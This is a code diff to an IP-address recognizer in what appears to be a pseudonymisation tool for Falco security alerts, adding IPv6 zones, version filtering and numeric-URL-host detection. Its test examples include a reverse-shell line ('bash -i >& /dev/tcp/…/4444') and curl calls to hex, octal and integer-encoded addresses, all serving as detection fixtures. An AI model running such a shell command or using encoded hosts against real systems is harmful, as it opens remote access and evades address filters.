@@ -4,6 +4,7 @@ import { classifyAddress } from "#alert/network.ts";
 import type { EntityType } from "#domain/pseudonymised.ts";
 import type { Recognizer, Span } from "../recognizer.ts";
 import { spansOf } from "../recognizer.ts";
+import type { TextScan } from "../text-scan.ts";
 
 /** Addresses that are the same everywhere stay readable: the analysis turns on them. */
 const typeOfClass: Readonly<Record<AddressClass, EntityType | null>> = {
@@ -19,7 +20,7 @@ const typeOfClass: Readonly<Record<AddressClass, EntityType | null>> = {
 };
 
 const ipv4 = /\d{1,3}(?:\.\d{1,3}){3}/g;
-const ipv6 = /[\da-fA-F]{0,4}(?::[\da-fA-F]{0,5}){2,8}(?:\.\d{1,3}){0,3}(?:%[\w.-]{1,16})?/g;
+const ipv6 = /[\da-fA-F]{0,4}(?::[\da-fA-F]{0,5}){2,8}(?:\.\d{1,3}){0,3}/g;
 
 /** The token's kind for an address; null for one that stays readable or is none. */
 export function typeOfAddress(address: string): EntityType | null {
@@ -27,23 +28,31 @@ export function typeOfAddress(address: string): EntityType | null {
   return addressClass === null ? null : typeOfClass[addressClass];
 }
 
-/** IPv4 and IPv6 addresses, as Falco prints them in `fd.name`, `fd.cip` and `fd.sip`, and anywhere else. */
+/** IPv4 and IPv6 addresses in every notation: as Falco prints them, with port, prefix or zone, and as one number in addresses. */
 export const ipAddress: Recognizer = {
   name: "ip-address",
-  find(text) {
+  find(scan) {
+    const { text } = scan;
     const spans = text.includes(".")
       ? spansOf(text, ipv4, (value, start, end) => (isVersion(text, start, end) ? null : typeOfAddress(value)))
       : [];
-    return text.includes(":") ? [...findIpv6(text), ...spans] : spans;
+    if (text.includes(":")) spans.push(...findIpv6(text));
+    spans.push(...numbersInUrls(scan));
+    return spans;
   },
   examples: {
     found: [
       ["fd.name=10.0.0.5:443->1.2.3.4:80", "1.2.3.4"],
       ["refused by fe80::1.", "fe80::1"],
+      ["ping6 fe80::1%eth0", "fe80::1"],
       ["to [2001:4860::8888]:53", "2001:4860::8888"],
       ["::ffff:10.0.0.1 came", "::ffff:10.0.0.1"],
       ["net 192.168.7.0/24", "192.168.7.0"],
       ["a:1->2001:4860:0:0::8:443", "2001:4860:0:0::8"],
+      ["curl http://167772165/x", "167772165"],
+      ["curl http://0x0a000005:80/", "0x0a000005"],
+      ["curl http://012.0.0.5/", "012.0.0.5"],
+      ["bash -i >& /dev/tcp/10.0.0.5/4444", "10.0.0.5"],
     ],
     ignored: [
       "version 1.2.3",
@@ -52,17 +61,21 @@ export const ipAddress: Recognizer = {
       "at 12:30:05",
       "nginx-1.24.0.2.tar.gz",
       "v1.2.3.4",
+      "Chrome/120.0.6.109",
+      "pip install x==1.2.3.4",
       "127.0.0.1:80",
       "::1",
       "0.0.0.0:22",
       "169.254.169.254",
       "std::vector",
+      "http://2130706433/",
     ],
   },
 };
 
 function findIpv6(text: string): Span[] {
   const spans: Span[] = [];
+  if (!isColonNearColon(text)) return spans;
   for (const match of text.matchAll(ipv6)) {
     const start = match.index;
     const before = text.charAt(start - 1);
@@ -70,13 +83,33 @@ function findIpv6(text: string): Span[] {
     const value = match[0].endsWith("::") ? match[0] : match[0].replace(/[:.]$/, "");
     // `address:port` without brackets, as Falco prints it: a last group that only a port can be goes first.
     const withoutPort = value.replace(/:\d{1,5}$/, "");
-    const address =
-      isIPv6(value) && !(isIPv6(withoutPort) && looksLikePort(value, text, start + value.length)) ? value : withoutPort;
-    if (!isIPv6(address)) continue;
-    const type = typeOfAddress(address);
-    if (type !== null) spans.push({ start, end: start + address.length, type });
+    const isWhole = isIPv6(value) && !(isIPv6(withoutPort) && looksLikePort(value, text, start + value.length));
+    spans.push(...ipv6Span(isWhole ? value : withoutPort, start));
   }
   return spans;
+}
+
+/** Two colons with at most five characters between them, times of day apart: most texts have none. */
+function isColonNearColon(text: string): boolean {
+  let before = text.indexOf(":");
+  for (let at = text.indexOf(":", before + 1); at >= 0; at = text.indexOf(":", at + 1)) {
+    const isTime = at - before === 3 && text.charCodeAt(at + 3) !== 58 && text.charCodeAt(before - 3) !== 58;
+    if (at - before <= 6 && !isTime) return true;
+    before = at;
+  }
+  return false;
+}
+
+/** Colons of another list may stand in front, as in curl's `::` + address. */
+function ipv6Span(text: string, offset: number): Span[] {
+  for (let skip = 0; skip < 3; skip += 1) {
+    const address = text.slice(skip);
+    if (skip > 0 && text.charAt(skip - 1) !== ":") break;
+    if (!isIPv6(address)) continue;
+    const type = typeOfAddress(address);
+    return type === null ? [] : [{ start: offset + skip, end: offset + text.length, type }];
+  }
+  return [];
 }
 
 /** In a connection (`a:port->b:port`) the last group is the port. */
@@ -86,11 +119,28 @@ function looksLikePort(value: string, text: string, end: number): boolean {
   return port <= 65_535 && (text.startsWith("->", end) || text.slice(start - 2, start) === "->");
 }
 
-/** Four numbers in a file name or after a `v` are a version; a word that goes on is no address. */
+/** Four numbers in a file name, behind a `v`, `==` or the name of a browser are a version; a word that goes on is no address. */
 function isVersion(text: string, start: number, end: number): boolean {
-  const before = text.charAt(start - 1);
-  if (/[\w.]/.test(before)) return true;
-  const after = text.slice(end, end + 2);
-  if (/^\w|^\.\w/.test(after)) return true;
-  return before === "-" && /[a-zA-Z]/.test(text.charAt(start - 2));
+  const before = text.slice(Math.max(0, start - 32), start);
+  if (/[\w.]$|[A-Za-z][-~+]$|[=~<>!]=$/.test(before)) return true;
+  const after = text.slice(end, end + 3);
+  if (/^\w|^\.\w|^[-~+](?:r?\d|deb|ubuntu)/.test(after)) return true;
+  return /(?:^|[\s"'(;])[A-Z][A-Za-z]{1,24}\/$/.test(before);
+}
+
+const numeric = /^(?:0x[0-9a-f]{1,8}|\d{8,10}|(?:0x[0-9a-f]{1,2}|0?\d{1,3})(?:\.(?:0x[0-9a-f]{1,2}|0?\d{1,3})){1,3})$/i;
+
+/** `http://167772165/`, `http://0x0a000005/`, `http://012.0.0.5/`: what curl and wget take for an address. */
+function numbersInUrls({ text, urls }: TextScan): Span[] {
+  const spans: Span[] = [];
+  for (const { hosts } of urls()) {
+    for (const { start, end } of hosts) {
+      const host = text.slice(start, end);
+      if (!numeric.test(host) || classifyAddress(host) !== null) continue;
+      const value = URL.canParse(`http://${host}/`) ? new URL(`http://${host}/`).hostname : host;
+      const type = typeOfAddress(value);
+      if (type !== null) spans.push({ start, end, type, value });
+    }
+  }
+  return spans;
 }
